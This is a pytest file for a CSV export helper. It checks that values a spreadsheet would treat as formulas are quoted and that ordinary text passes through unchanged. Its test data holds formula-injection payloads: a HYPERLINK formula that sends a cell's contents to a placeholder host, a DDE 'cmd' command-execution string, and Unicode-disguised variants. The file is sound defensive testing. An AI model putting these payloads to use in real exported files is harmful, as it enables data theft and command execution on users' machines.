"""Cells are what RFC 4180 says, and none of them is a formula to whatever opens the file."""

import csv
import io
import json
from typing import Any

import pytest

from deedbox.http.exporting.cells import cell, row

FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", '=HYPERLINK("http://x.example?"&A1,"click")', "=cmd|' /C calc'!A0"),
    *(" =1", "\x00=1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\u2060\u00ad=1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20A", "\u3000\uff1d1", "\u22121", "\ufe621"),
    *("\tabc", "\rabc", "\nabc"),
]
WITHIN = ["x;=1", "x\t=1", "x\n=1", "x\r\n@A", "x; \u200b=1", "x;\uff1d1", "a;-1;b", "\t=1", "\r=1", "\n=1"]
HARMLESS = [
    *("", "a", "a=1", "a-b", "1-2", "2026-11-28", "'", "Ada, “the first”", "a; b", "ünïcode", "a\nb", "(=1)"),
    *(" a", "a ", '"', '""', "a\r\nb", "/orders/{id}", "listOrders"),
]


def read_back(text: str) -> list[str]:
    (cells,) = csv.reader(io.StringIO(text, newline=""))
    return cells


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_a_formula_has_a_quote_in_front(text: str) -> None:
    assert read_back(row(["a", text, "b"])) == ["a", f"'{text}", "b"]


@pytest.mark.parametrize("text", WITHIN)
def test_what_would_be_one_in_a_file_with_another_separator_has_a_quote_in_front(text: str) -> None:
    (read,) = read_back(row([text]))

    assert read.replace("'", "") == text
    for separator in ";\t\n":
        assert not any(part.strip().startswith(tuple("=+-@\uff1d")) for part in read.split(separator)[1:])


@pytest.mark.parametrize("text", HARMLESS)
def test_any_other_text_comes_back_as_it_was(text: str) -> None:
    assert read_back(row(["a", text, "b"])) == ["a", text, "b"]


@pytest.mark.parametrize(
    ("value", "written"),
    [(-1, "-1"), (0, "0"), (-1.5, "-1.5"), (True, "true"), (False, "false"), (None, ""), ("", '""')],
)
def test_numbers_stay_numbers_and_null_is_no_text(value: Any, written: str) -> None:
    assert cell(value) == written


@pytest.mark.parametrize("value", [["=1", "b"], {"reason": "=1;\n=2 “x”"}, [], {}, [{"a": None}]])
def test_a_list_or_an_object_is_json_in_a_cell(value: Any) -> None:
    (read,) = read_back(row([value]))

    assert json.loads(read) == value or ";'=" in read
    assert "\n" not in read


def test_a_quote_is_two_and_a_line_ends_as_the_rfc_says() -> None:
    assert row(['say "a"', "b,c", 1]) == '"say ""a""","b,c",1\r\n'
